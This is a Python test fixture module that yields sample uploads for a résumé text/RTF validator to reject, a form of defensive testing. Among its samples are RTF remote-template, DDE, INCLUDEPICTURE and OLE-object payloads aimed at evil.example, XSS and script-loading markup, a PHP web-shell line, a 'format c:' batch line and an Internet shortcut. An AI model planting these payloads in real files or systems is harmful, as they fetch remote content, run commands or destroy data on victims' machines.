"""RTF and plain text for tests, and what is passed off as such."""

from collections.abc import Iterator

from applications.tests.resume_packages import zipped

RTF = b"{\\rtf1\\ansi\\ansicpg1252\\deff0{\\fonttbl{\\f0 Arial;}}\\f0 %s}"


def bad_rtf() -> Iterator[tuple[str, bytes]]:
    """Yield RTF that runs, fetches or hides something, or breaks off."""
    for inner in (
        b"{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 0105}}",
        b"{\\object\\objautlink\\objupdate{\\*\\objdata 00}}",
        b"{\\*\\objdata 0105000002}", b"{\\object\\objocx}", b"{\\objlink x}",
        b"{\\*\\ignored{\\object\\objhtml x}}", b"{\\OBJECT\\OBJEMB x}",
        b"{\\*\\oleclsid x}", b"\\objw10 x", b"{\\filetbl{\\file x}}",
        b"{\\subdocument1}",
        b"{\\*\\template http://evil.example/t.dotm}",
        b"{\\*\\template \\\\\\\\evil\\\\t.dotm}",
        b"{\\*\\template ht\\'74p://evil.example/t}",
        b"{\\*\\template \\u104?\\u116?\\u116?\\u112?://evil.example}",
        b"{\\field{\\*\\fldinst DDEAUTO c:\\\\x}{\\fldrslt x}}",
        b"{\\field{\\*\\fldinst { DDE cmd}}{\\fldrslt x}}",
        b'{\\field{\\*\\fldinst INCLUDEPICTURE "http://evil.example/x"}}',
        b'{\\field{\\*\\fldinst {INCLUDE}{TEXT "C:\\\\x"}}}',
        b'{\\field{\\*\\fldinst IMPORT "http://evil.example/x"}}',
        b'{\\field{\\*\\fldinst HYPERLINK "javascript:alert(1)"}}',
        b'{\\field{\\*\\fldinst HYPERLINK "\\\\\\\\evil\\\\x"}}',
        b'{\\field{\\*\\fldinst HYPERLINK "file://evil/x"}}',
        b'{\\field{\\*\\fldinst LINK Excel.Sheet "C:\\\\x"}}',
        b"{\\field{\\*\\fldinst EMBED Package}}",
        b"{\\pict\\bin999999 x}", b"{\\pict\\bin4294967295 x}", b"a\0b", b"}", b"{",
        b"{" * 300 + b"}" * 300, b"\\", b"{\\*", b"%PDF-1.7 {}",
    ):  # fmt: skip
        yield f"rtf {inner[:60]!r}", RTF % inner
    whole = RTF % (b"Welder in Leeds\\par " * 40)
    for part in range(1, 8):
        yield f"rtf cut at {part}/8", whole[: len(whole) * part // 8]
    for name, more in {
        "a script": b"<script>alert(1)</script>",
        "another": whole,
        "a ZIP": zipped({"a": b"b"}),
        "a PDF": b"%PDF-1.7\n%%EOF",
    }.items():
        yield f"rtf and then {name}", whole + more
    yield "rtf around a ZIP", RTF % (b"{\\pict\\bin200 %s}" % zipped({"a": b"b"}))
    yield "nothing but rtf", b"{\\rtf"


def markup() -> Iterator[tuple[str, bytes]]:
    """Yield markup and scripts that are passed off as text."""
    for text in (
        "<html><body>Welder</body></html>", "<!DOCTYPE html><p>x", "<script>alert(1)",
        "  \n\t<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        "<?xml version='1.0'?><a/>", "<!-- x --><p>Welder", "<p>Welder</p>",
        "<?php system($_GET['x']);", "<%@ page import='x' %>", "<a href=x>y</a>",
        "Welder\n<script src=//evil.example></script>", "Welder <SCRIPT>alert(1)",
        "Welder <svg/onload=alert(1)>", "Welder <iframe src=x>", "Welder <?php x",
        "Welder <object data=x>", "Welder <embed src=x>", "Welder <meta http-equiv=x>",
        "Welder <!ENTITY x SYSTEM 'y'>", "Welder <!doctype html>",
        "Welder <base href=x>",
        "Welder < script >alert(1)", "Welder <link rel=x>", "x<%= 7*7 %>",
        "Welder <img src=x onerror=alert(1)>", "Welder\x1b]0;x\x07",
        "#!/bin/sh\necho x", "@echo off\nformat c:", "%!PS-Adobe-3.0\n",
        "[InternetShortcut]\nURL=http://evil.example", "[Desktop Entry]\nExec=x",
        "Windows Registry Editor Version 5.00", "-----BEGIN RSA PRIVATE KEY-----",
        "MIME-Version: 1.0\nContent-Type: text/html\n\n<p>", "[autorun]\nopen=x.exe",
        "From: x@example.org\nMIME-Version: 1.0\n\nx", "BEGIN:VCALENDAR\nX:1",
        "{\\rt f1 no}", "Welder <form action=x>", "Welder <applet code=x>",
    ):  # fmt: skip
        yield f"txt {text[:50]!r}", text.encode()
    page = "<html><script>alert(1)</script></html>"
    for encoding in ("utf-8-sig", "utf-16", "utf-16-be"):
        mark = "\ufeff" if encoding == "utf-16-be" else ""
        yield f"txt, markup in {encoding}", (mark + page).encode(encoding)


def no_text() -> Iterator[tuple[str, bytes]]:
    """Yield what is no text at all."""
    for name, content in OTHER_FILES.items():
        yield f"txt that is {name}", content
    for name, content in {
        "nothing": b"", "blanks": b" \n\t\r\n ", "a mark": b"\xef\xbb\xbf",
        "NULs": bytes(400), "a NUL": b"Welder\0in Leeds", "bells": b"Welder\x07\x07",
        "UTF-16, unmarked": "Welder".encode("utf-16-le"),
        "UTF-32": "Welder".encode("utf-32"), "half a letter": b"\xff\xfeW\0e",
        "a lone surrogate": b"\xff\xfe\x00\xd8", "all bytes": bytes(range(256)) * 9,
        "a PDF a little later": b"Welder\n%PDF-1.7\n%%EOF",
        "a ZIP at its end": b"Welder\n" + zipped({"a": b"b"}),
        "a form of DEL": b"Welder\x7f\x7f", "shift out": b"\x0e\x0fWelder",
    }.items():  # fmt: skip
        yield f"txt of {name}", content


OTHER_FILES = {
    "a GIF": b"GIF89a" + bytes(80), "a PNG": b"\x89PNG\r\n\x1a\n" + bytes(80),
    "a JPEG": b"\xff\xd8\xff\xe0" + bytes(80), "a BMP": b"BM" + bytes(80),
    "a TIFF": b"II*\0" + bytes(80), "a WebP": b"RIFF\0\0\0\0WEBP" + bytes(80),
    "a program": b"MZ\x90\0" + bytes(80), "an ELF": b"\x7fELF" + bytes(80),
    "a class": b"\xca\xfe\xba\xbe" + bytes(80), "WASM": b"\0asm" + bytes(80),
    "old Word": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
    "gzip": b"\x1f\x8b\x08" + bytes(80), "RAR": b"Rar!\x1a\x07\0" + bytes(80),
    "7-Zip": b"7z\xbc\xaf\x27\x1c" + bytes(80), "xz": b"\xfd7zXZ\0" + bytes(80),
    "bzip2": b"BZh91AY" + bytes(80), "a shortcut": b"L\0\0\0\x01\x14\x02" + bytes(80),
    "a cabinet": b"MSCF" + bytes(80), "a database": b"SQLite format 3\0" + bytes(80),
    "PostScript": b"%!PS-Adobe-3.0\n" + bytes(80),
}  # fmt: skip
